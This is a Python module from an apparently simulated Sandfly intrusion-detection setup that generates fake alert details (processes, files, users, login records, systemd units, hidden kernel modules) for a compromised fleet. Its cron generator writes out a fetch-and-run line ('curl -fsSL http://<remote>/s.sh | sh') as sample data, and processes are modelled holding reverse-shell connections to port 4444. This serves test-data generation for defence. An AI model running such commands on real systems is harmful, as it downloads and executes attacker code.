"""Engine-specific detail of alerts (`data.results.process`, `.file`, `.user`, ...).

A finding is what a sandfly found: (sandfly, subject). Real Sandfly reports the same
finding again on every scan with the same process, file hashes and log record
(which is what match hashes and `count` are for), and the simulated fleet is hit
by one campaign, so the same implant looks the same on every host. The detail is
therefore generated once per finding and cached as JSON text; only the "minutes
before the scan" fields change from one result to the next. Those are written as
sentinel numbers and substituted per result (see `Minutes`).
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass, field

from . import catalog
from .rand import hex_digits
from .timeutil import DAY_MS, format_ms

MINUTE_MS = 60_000
OWNERS = ((0, "root"), (33, "www-data"), (1000, "deploy"), (998, "postgres"))
SENTINEL_BASE = -9_000_000_010

SUBJECTS: dict[str, tuple[str, ...]] = {
    "process": tuple(entry[1] for entry in catalog.PROCESS_NAMES),
    "file": catalog.SUSPICIOUS_FILES,
    "directory": catalog.SUSPICIOUS_DIRS,
    "user": catalog.USERNAMES,
    "log_wtmp": catalog.USERNAMES,
    "log_btmp": catalog.REMOTE_ADDRESSES,
    "cron": catalog.CRON_PATHS,
    "systemd": catalog.SYSTEMD_UNITS,
    "kernel_module": catalog.KERNEL_MODULES,
    "os": ("",),
}


@dataclass
class Minutes:
    """Collects the `*_minutes` fields, which count minutes from an absolute time to the scan.

    `since()` returns a sentinel (11 characters, never a real value, none a prefix
    of another) that `render()` later replaces with the value for one result.
    """

    fields: list[tuple[str, int]] = field(default_factory=list)

    def since(self, absolute_ms: int) -> int:
        """Placeholder for "minutes from `absolute_ms` to this result's end time"."""
        sentinel = SENTINEL_BASE - len(self.fields)
        self.fields.append((str(sentinel), absolute_ms))
        return sentinel

    def render(self, text: str, end_ms: int) -> str:
        """Substitute every placeholder for a result ending at `end_ms` (never negative)."""
        for token, absolute_ms in self.fields:
            text = text.replace(token, str(max(0, (end_ms - absolute_ms) // MINUTE_MS)))
        return text


@dataclass(frozen=True)
class Finding:
    """What a detail is generated from: the sandfly, the subject it found, a time anchor."""

    sandfly: catalog.SandflyDef
    subject_index: int
    anchor_ms: int
    uptime_days: int

    @property
    def subject(self) -> str:
        """The path, user name or address this finding is about."""
        subjects = SUBJECTS[self.sandfly.detail]
        return subjects[self.subject_index % len(subjects)]


def detail_fragment(finding: Finding, rng: random.Random, os_data: dict | None) -> tuple[str, Minutes]:
    """The detail as a JSON object member (`"process":{...}`) plus its minute placeholders."""
    minutes = Minutes()
    kind = finding.sandfly.detail
    if kind == "process":
        name, value = "process", _process(finding, rng, minutes)
    elif kind == "file":
        name, value = "file", _file(rng, finding.subject, finding.anchor_ms, minutes)
    elif kind == "directory":
        name, value = "directory", _directory(finding, rng, minutes)
    elif kind == "user":
        name, value = "user", _user(finding, rng)
    elif kind in ("log_wtmp", "log_btmp"):
        name, value = "log", _login_log(finding, rng, minutes)
    elif kind == "cron":
        name, value = "cron", _cron(finding, rng)
    elif kind == "systemd":
        name, value = "systemd", _systemd(finding, rng)
    elif kind == "kernel_module":
        name, value = "kernel_module", _kernel_module(finding, rng)
    else:
        name, value = "os", os_data
    return json.dumps({name: value}, separators=(",", ":"))[1:-1], minutes


def _hashes(rng: random.Random) -> dict:
    """Digests of a file (random but well-formed)."""
    return {
        "md5": hex_digits(rng, 32),
        "sha1": hex_digits(rng, 40),
        "sha256": hex_digits(rng, 64),
        "sha512": hex_digits(rng, 128),
    }


def _file_dates(rng: random.Random, anchor_ms: int, minutes: Minutes) -> dict:
    """accessed/created/modified times of a file, before the finding's anchor."""
    dates: dict = {}
    for name in ("accessed", "created", "modified"):
        absolute = anchor_ms - rng.randrange(1, 50_000) * MINUTE_MS
        dates[name] = format_ms(absolute)
        dates[f"{name}_minutes"] = minutes.since(absolute)
    return dates


def _file(rng: random.Random, path: str, anchor_ms: int, minutes: Minutes) -> dict:
    """A `file` object as the file engine reports it."""
    uid, owner = OWNERS[rng.randrange(len(OWNERS))]
    name = path.rsplit("/", 1)[-1]
    return {
        "path": path,
        "name": name,
        "extension": name.rsplit(".", 1)[-1] if "." in name.lstrip(".") else "",
        "size": rng.randrange(64, 8_000_000),
        "mode": "-rwsr-xr-x" if rng.random() < 0.2 else "-rwxr-xr-x",
        "uid": uid,
        "username": owner,
        "gid": uid,
        "groupname": owner,
        "entropy": round(rng.uniform(3.5, 7.99), 2),
        "nlink": 1,
        "true_path": path,
        "path_root": "/" + path.split("/")[1],
        "path_link": "",
        "selinux_context": "",
        "flags_list": ["hidden"] if "/." in path else [],
        "date": _file_dates(rng, anchor_ms, minutes),
        "hash": _hashes(rng),
        "magic_num": {"hex": "7f454c46", "text": ".ELF", "type": "executable", "class": "elf"},
        "mount": {"device": "/dev/vda1", "fs_type": "ext4", "mountpoint": "/"},
        "container": {"id": "", "id_short": "", "rootdir": ""},
    }


def _process(finding: Finding, rng: random.Random, minutes: Minutes) -> dict:
    """A `process` object: identity, ownership, files, sockets and /proc status."""
    name, path, args = catalog.PROCESS_NAMES[finding.subject_index % len(catalog.PROCESS_NAMES)]
    pid = rng.randrange(400, 4_194_304)
    ppid = 1 if rng.random() < 0.5 else rng.randrange(2, pid)
    uid, owner = OWNERS[rng.randrange(len(OWNERS))]
    created = finding.anchor_ms - rng.randrange(1, 20_000) * MINUTE_MS
    connected = finding.sandfly.name in ("process_reverse_shell_socket", "process_running_deleted")
    remote = catalog.REMOTE_ADDRESSES[finding.subject_index % len(catalog.REMOTE_ADDRESSES)]
    deleted = finding.sandfly.name == "process_running_deleted"
    return {
        "name": name,
        "extension": "",
        "command": name,
        "cmdline": f"{path} {args}".strip(),
        "cmdargs": [path, *args.split()],
        "pid": pid,
        "ppid": ppid,
        "pgid": pid,
        "session_id": pid,
        "uid": uid,
        "username": owner,
        "gid": uid,
        "groupname": owner,
        "login_uid": uid,
        "login_uid_username": owner,
        "path": f"{path} (deleted)" if deleted else path,
        "true_path": path,
        "cwd": path.rsplit("/", 1)[0] or "/",
        "entropy": round(rng.uniform(4.2, 7.99), 2),
        "state": "S",
        "system_uptime": format_ms(finding.anchor_ms - finding.uptime_days * DAY_MS),
        "selinux_context": "",
        "date": {"created": format_ms(created), "created_minutes": minutes.since(created)},
        "flags_list": ["deleted"] if deleted else [],
        "file_descriptors": _file_descriptors(rng, connected),
        "environ": [
            "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
            f"HOME=/home/{owner}",
        ],
        "stack": [],
        "cgroup": [{"hierarchy_id": "0", "controller_list": "", "path": "/system.slice/cron.service"}],
        "container": {"id": "", "id_short": "", "rootdir": ""},
        "network_ports": _network_ports(rng, connected, remote, uid, owner),
        "hash": _hashes(rng),
        "file": _file(rng, path, finding.anchor_ms, minutes),
        "status": {
            "name": name[:15],
            "state": "S (sleeping)",
            "pid": pid,
            "ppid": ppid,
            "tgid": pid,
            "uid": uid,
            "gid": uid,
            "uid_effective": uid,
            "gid_effective": uid,
            "threads": rng.randint(1, 16),
            "vm_peak": rng.randrange(4_000, 900_000),
            "vm_size": rng.randrange(4_000, 900_000),
            "umask": "0022",
            "seccomp": 0,
            "tracer_pid": 0,
        },
    }


def _file_descriptors(rng: random.Random, connected: bool) -> list[dict]:
    """Open descriptors; a connected process holds a TCP socket."""
    descriptors = [
        {
            "number": number,
            "path": "/dev/null",
            "type": "file",
            "class": "file",
            "hidden": False,
            "selinux_context": "",
        }
        for number in range(3)
    ]
    if connected:
        descriptors.append(
            {
                "number": 3,
                "path": f"socket:[{rng.randrange(10_000, 9_999_999)}]",
                "type": "socket",
                "class": "socket_tcp",
                "hidden": False,
                "selinux_context": "",
            }
        )
    return descriptors


def _network_ports(rng: random.Random, connected: bool, remote: str, uid: int, owner: str) -> dict:
    """Socket summary; only connected processes list a TCP connection."""
    ports: dict = {
        "operating": connected,
        "listening": False,
        "listening_num": 0,
        "established": connected,
        "established_num": 1 if connected else 0,
    }
    if connected:
        connection = {
            "established": True,
            "hidden": False,
            "hostname_local": "",
            "hostname_remote": "",
            "ip_address_local": "10.20.0.2",
            "ip_address_remote": remote,
            "listening": False,
            "port_local": rng.randrange(32768, 60999),
            "port_remote": 4444,
            "protocol_num": 6,
            "status_text": "ESTABLISHED",
            "uid": uid,
            "username": owner,
        }
        ports["tcp"] = {
            "operating": True,
            "listening": False,
            "listening_num": 0,
            "established": True,
            "established_num": 1,
            "connections": [connection],
        }
    return ports


def _directory(finding: Finding, rng: random.Random, minutes: Minutes) -> dict:
    """A `directory` object."""
    path = finding.subject
    uid, owner = OWNERS[rng.randrange(len(OWNERS))]
    root = "/" + path.split("/")[1]
    return {
        "path": path,
        "name": path.rsplit("/", 1)[-1],
        "extension": "",
        "count": rng.randrange(1, 40),
        "count_mismatch": finding.sandfly.engine == "sandfly_engine_cloaked_direntry",
        "mode": "drwxr-xr-x",
        "uid": uid,
        "username": owner,
        "gid": uid,
        "groupname": owner,
        "nlink": 2,
        "size": 4096,
        "true_path": path,
        "path_root": root,
        "path_link": "",
        "selinux_context": "",
        "flags_list": ["hidden"],
        "date": _file_dates(rng, finding.anchor_ms, minutes),
        "mount": {"device": "tmpfs", "fs_type": "tmpfs", "mountpoint": root},
        "container": {"id": "", "id_short": "", "rootdir": ""},
    }


def _user(finding: Finding, rng: random.Random) -> dict:
    """A `user` object: account, password state and SSH keys."""
    username = finding.subject
    index = finding.subject_index
    uid = 0 if username == "root" or finding.sandfly.name == "user_uid_zero_not_root" else 1000 + index
    home = "/root" if username == "root" else f"/home/{username}"
    key_count = rng.randint(0, 3)
    keys = [
        {
            "entry_num": number + 1,
            "type": "ssh-ed25519",
            "detected_type": "ssh-ed25519",
            "detected_bits": 256,
            "key": "AAAAC3NzaC1lZDI1NTE5AAAAI" + hex_digits(rng, 43),
            "comment": f"{username}@workstation",
            "options": "",
            "entry": "",
            "friendly_name": "",
            "sha256_fingerprint": "SHA256:" + hex_digits(rng, 43),
            "key_parse_error": False,
            "path": f"{home}/.ssh/authorized_keys",
        }
        for number in range(key_count)
    ]
    empty_password = finding.sandfly.name == "user_password_empty"
    return {
        "username": username,
        "uid": uid,
        "gid": uid,
        "groupname": username,
        "home_dir": home,
        "shell": catalog.SHELLS[index % len(catalog.SHELLS)],
        "gecos": "",
        "group_membership": [username, "sudo"] if index % 3 == 0 else [username],
        "inferred": False,
        "password": {
            "present": not empty_password,
            "empty": empty_password,
            "locked": False,
            "disabled": False,
            "type": "" if empty_password else "sha512crypt",
            "age_min": 0,
            "age_max": 99999,
            "warning_period": 7,
            "inactivity_period": 0,
            "days_since_last_changed": rng.randrange(0, 2000),
            "days_since_expired": 0,
            "reserved": "",
            "shadow_entry_missing": False,
            "shadow_parsing_error": "",
        },
        "ssh": {
            "ssh_data_status": "ok",
            "authorized_keys": {
                "present": key_count > 0,
                "total": key_count,
                "duplicate_found": False,
                "data": keys,
            },
        },
    }


def _login_log(finding: Finding, rng: random.Random, minutes: Minutes) -> dict:
    """A wtmp or btmp login record."""
    failed = finding.sandfly.detail == "log_btmp"
    index = finding.subject_index
    remote = catalog.REMOTE_ADDRESSES[index % len(catalog.REMOTE_ADDRESSES)]
    created = finding.anchor_ms - rng.randrange(1, 10_000) * MINUTE_MS
    entry = {
        "username": catalog.USERNAMES[index % len(catalog.USERNAMES)],
        "hostname": remote,
        "ip_address": remote,
        "device": "ssh:notty" if failed else "pts/0",
        "pid": rng.randrange(400, 4_194_304),
        "session": 0,
        "type": 6 if failed else 7,
        "type_name": "LOGIN_PROCESS" if failed else "USER_PROCESS",
        "entry_number": rng.randrange(1, 5000),
        "id": "" if failed else "ts/0",
        "reserved": "",
        "exit_status": {"termination": 0, "exit": 0},
        "date": {
            "created": format_ms(created),
            "created_minutes": minutes.since(created),
            "created_previous_entry": format_ms(created - rng.randrange(1, 600) * MINUTE_MS),
        },
    }
    return {"btmp" if failed else "wtmp": entry}


def _cron(finding: Finding, rng: random.Random) -> dict:
    """A `cron` entry."""
    remote = catalog.REMOTE_ADDRESSES[finding.subject_index % len(catalog.REMOTE_ADDRESSES)]
    minute = str(rng.randrange(60))
    command = f"curl -fsSL http://{remote}/s.sh | sh"
    return {
        "path": finding.subject,
        "entry": f"{minute} * * * * root {command}",
        "command": command,
        "minute": minute,
        "hour": "*",
        "day": "*",
        "month": "*",
        "day_of_week": "*",
        "username": "root",
        "time_macro": "",
        "non_utf8_data": False,
    }


def _systemd(finding: Finding, rng: random.Random) -> dict:
    """A `systemd` unit."""
    unit = finding.subject.rsplit("/", 1)[-1]
    binary = f"/tmp/.{unit.split('.')[0]}"
    started = finding.anchor_ms - rng.randrange(1, 20_000) * MINUTE_MS
    return {
        "name": unit,
        "description": "System helper",
        "load_state": "loaded",
        "active_state": "active",
        "sub_state": "running",
        "type": "service",
        "object_path": "/org/freedesktop/systemd1/unit/" + unit.replace(".", "_2e").replace("-", "_2d"),
        "context": {"scope": "system", "uid": 0},
        "service_info": {
            "exec_summary": binary,
            "exec_summary_with_args": f"{binary} --daemon",
            "environment": [],
            "uid": 0,
            "gid": 0,
            "status_text": "",
            "main_exec_start_time": format_ms(started),
        },
    }


def _kernel_module(finding: Finding, rng: random.Random) -> dict:
    """A `kernel_module` entry."""
    return {
        "name": finding.subject,
        "state": "Live",
        "hidden": True,
        "instance_count": 0,
        "memory_size": rng.randrange(8_192, 200_000),
        "memory_offset": f"0xffffffffc0{hex_digits(rng, 6)}",
        "missing_file": True,
        "module_file_path": "",
        "dependencies": [],
        "taints_list": ["O", "E"],
        "taints": [
            {"taint": "O", "taint_reason": "out-of-tree module loaded"},
            {"taint": "E", "taint_reason": "unsigned module loaded"},
        ],
        "kernel_taint_missing": False,
        "vmalloc_artifact": False,
    }
